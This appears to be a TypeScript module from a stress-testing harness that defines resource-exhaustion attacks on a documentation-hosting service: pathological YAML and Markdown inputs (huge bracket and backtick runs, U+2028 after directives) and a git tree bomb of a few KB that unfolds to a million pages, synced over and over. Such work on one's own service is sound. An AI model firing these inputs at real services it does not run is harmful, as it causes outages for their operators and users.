import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { Attack, Load, Target } from "../attack.ts";
import { jsonHeaders, keepBusy, send } from "../send.ts";

type Files = (turn: number) => Record<string, string>;

const collectionKeys = "? ".repeat(600);
const brackets = `${"[".repeat(10)}${"]".repeat(120_000)}`;
const directives = `:::${" ".repeat(6_000)}\u2028x\n`;
const backticks = "`".repeat(100_000);

export const sourceAttacks: Attack[] = [
  pages("yaml-keys", "YAML keys that are collections", (turn) => ({
    "mkdocs.yml": `${collectionKeys}\n# ${turn}\n`,
    "docs/index.md": `---\n${collectionKeys}\n# ${turn}\n---\n# Keys\n`,
  })),
  pages("yaml-brackets", "120,000 brackets as YAML", (turn) => ({
    "mkdocs.yml": `${brackets}\n# ${turn}\n`,
    "docs/index.md": `---\ntitle: ${brackets}\n# ${turn}\n---\n# Brackets\n`,
  })),
  pages("line-separators", "directives that end in U+2028", (turn) => ({
    "index.md": `# Directives ${turn}\n\n${directives}`,
    "other.mdx": `# Directives ${turn}\n\n${directives}`,
  })),
  pages("backticks", "100,000 backticks in a line", (turn) => ({
    "index.md": `# Backticks ${turn}\n\n${backticks}\n`,
    "other.md": `# Backticks ${turn}\n\n- ${backticks}\u2028x ${backticks}\n`,
    "third.mdx": `# Backticks ${turn}\n\n${"`` ` ".repeat(20_000)}\n`,
  })),
  {
    name: "tree-bomb",
    what: "a git repository of a few KB that unfolds to 1,000,000 pages",
    async run(target, load) {
      for (let turn = 0; !load.isOver(); turn += 1) {
        foldTree(target.repository.folder, turn);
        await sync(target, load, target.repository);
      }
    },
  },
];

/** Writes the pages anew and syncs, again and again, while the pages are read. */
function pages(name: string, what: string, files: Files): Attack {
  const run: Attack["run"] = async (target, load) => {
    const reading = keepBusy(load, 2, (count) =>
      send(target, load, {
        path: `/docs/${target.own.domain}${count % 2 ? "" : "/llms-full.txt"}`,
      }),
    );
    for (let turn = 0; !load.isOver(); turn += 1) {
      writeFiles(target.own.folder, files(turn));
      await sync(target, load, target.own);
    }
    await reading;
  };
  return { name, what: `${what}, in docs that are synced again and again`, run };
}

function sync(target: Target, load: Load, project: Target["own"]): Promise<void> {
  const path = `/v1/projects/${project.domain}/sync`;
  return send(target, load, { path, method: "POST", headers: jsonHeaders(project.adminKey) });
}

/** Afterwards the folder holds these files and no others. */
export function writeFiles(folder: string, files: Record<string, string | Buffer>): void {
  for (const name of readdirSync(folder)) rmSync(join(folder, name), { recursive: true });
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
}

/** Six levels of trees with ten names each that are all the same one: a million paths in seven objects. */
function foldTree(folder: string, turn: number): void {
  const page = git(folder, ["hash-object", "-w", "--stdin"], `# Page ${turn}\n\nA page.\n`);
  let tree = git(folder, ["mktree"], lines(`100644 blob ${page}`, ".md"));
  for (let level = 0; level < 5; level += 1)
    tree = git(folder, ["mktree"], lines(`040000 tree ${tree}`, ""));
  commit(folder, tree);
}

function lines(entry: string, ending: string): string {
  return Array.from({ length: 10 }, (_, place) => `${entry}\tp${place}${ending}\n`).join("");
}

/** A bare repository with one harmless page. */
export function makeRepository(folder: string): void {
  git(".", ["init", "--quiet", "--bare", "--initial-branch=main", folder], "");
  const page = git(folder, ["hash-object", "-w", "--stdin"], "# Welcome\n\nA page.\n");
  commit(folder, git(folder, ["mktree"], `100644 blob ${page}\tindex.md\n`));
}

function commit(folder: string, tree: string): void {
  const author = ["-c", "user.name=Bench", "-c", "user.email=bench@localhost"];
  const made = git(folder, [...author, "commit-tree", "-m", "Pages", tree], "");
  git(folder, ["update-ref", "refs/heads/main", made], "");
}

function git(folder: string, args: string[], input: string): string {
  return execFileSync("git", args, { cwd: folder, input, encoding: "utf8" }).trim();
}
